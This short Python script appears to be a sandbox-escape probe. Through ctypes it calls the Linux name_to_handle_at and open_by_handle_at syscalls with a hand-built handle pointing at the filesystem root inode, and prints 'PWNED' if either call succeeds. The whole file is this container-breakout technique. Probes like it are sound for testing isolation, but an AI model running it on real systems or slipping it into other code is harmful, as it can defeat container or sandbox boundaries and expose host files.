"""Opens files by handles, past every path."""
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
handle = ctypes.create_string_buffer(8 + 128)
ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
mount = ctypes.c_int()
if libc.syscall(303, -100, b"/usr", handle, ctypes.byref(mount), 0) == 0:
    print("PWNED name_to_handle_at")
ctypes.memmove(handle, (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little"), 16)
if libc.syscall(304, -100, handle, 0) >= 0:
    print("PWNED open_by_handle_at")
print("TRIED")
